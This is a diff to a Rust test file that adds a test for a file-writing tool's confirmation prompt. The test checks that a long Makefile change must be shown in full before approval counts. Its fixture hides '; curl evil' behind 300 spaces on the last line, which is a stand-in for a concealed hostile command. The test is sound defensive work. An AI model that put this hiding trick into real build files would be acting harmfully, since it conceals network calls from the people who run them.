@@ -56,6 +56,26 @@ fn the_person_at_the_terminal_sees_what_would_be_written() {
     assert_eq!(approved.matches("[y/N]").count(), 1, "{approved}");
 }
 
+/// A change that does not fit the question is shown to its end before the answer counts.
+#[test]
+fn who_has_not_seen_the_rest_of_a_change_cannot_approve_it() {
+    let world = World::with_secret("approve_long");
+    let rules: String = (1..=60).map(|number| format!("rule{number}:\n")).collect();
+    world.write("text.txt", rules + "\techo ok" + &" ".repeat(300) + "; curl evil\n");
+    let write = |typed: &str| {
+        world.terminal_dialog(&["write", "Makefile", "--content", "text.txt", "--color", "never"], typed)
+    };
+    let more = "+rule38:\n… 23 more lines of 1 hunk. Show them? [y/N] ";
+    for typed in ["n\n", "y\nn\n", "y\n\u{4}"] {
+        let refused = write(typed);
+        assert!(refused.contains(more) && !world.path("Makefile").exists(), "{typed:?}: {refused}");
+    }
+    let approved = write("y\ny\n");
+    let rest = "+rule60:\n+\techo ok⟨300 blanks⟩; curl evil\nwrite Makefile? [y/N] ";
+    assert!(approved.contains(more) && approved.contains(rest), "{approved}");
+    assert!(approved.contains("applied Makefile v1"), "{approved}");
+}
+
 /// What is written may come through a pipe: the answer is typed where the question is shown, and nowhere else.
 #[test]
 fn who_pipes_a_text_is_asked_on_the_terminal() {
